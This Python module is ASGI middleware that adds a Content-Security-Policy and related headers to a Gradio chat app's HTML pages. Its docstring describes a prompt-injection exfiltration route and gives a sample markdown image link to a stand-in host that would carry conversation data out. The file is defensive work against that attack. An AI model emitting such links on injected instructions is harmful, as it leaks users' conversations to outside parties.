"""page_policy: the browser's own limits on the app's pages, as headers on every HTML answer.

A reply is model output, and a prompt-injected document can make the model write `![x](http://elsewhere/?d=...)`:
a browser would fetch that image, sending the conversation out. The Content-Security-Policy below lets the page
load images (and everything else) only from this server, `data:` and `blob:`; links still open elsewhere when
clicked. It is the share page's policy (web/share_page.py) loosened only as far as Gradio's page needs: its
config and start-up are inline scripts, its `js=` handlers are evaluated, it styles inline, and it is shown in
Spaces' iframe (so no `frame-ancestors`). A page that set its own policy (the share page) keeps it.
"""

from __future__ import annotations

from .asgi import ASGIApp, Message, Receive, Scope, Send

CHAT_PAGE_POLICY = "; ".join(
    [
        "default-src 'self'",
        "img-src 'self' data: blob:",
        "media-src 'self' data: blob:",
        "font-src 'self' data:",
        "script-src 'self' 'unsafe-inline' 'unsafe-eval'",
        "style-src 'self' 'unsafe-inline'",
        "worker-src 'self' blob:",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
    ]
)
HEADERS = {
    b"content-security-policy": CHAT_PAGE_POLICY.encode(),
    b"referrer-policy": b"same-origin",  # a link followed out of a reply does not name the page
    b"x-content-type-options": b"nosniff",
}


class PagePolicy:
    """Adds HEADERS to every `text/html` answer that does not carry a policy of its own."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            return await self.app(scope, receive, send)

        async def with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                names = {name.lower() for name, _ in headers}
                kind = next((value for name, value in headers if name.lower() == b"content-type"), b"")
                if kind.lower().startswith(b"text/html") and b"content-security-policy" not in names:
                    headers += [(name, value) for name, value in HEADERS.items() if name not in names]
                    message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, with_policy)
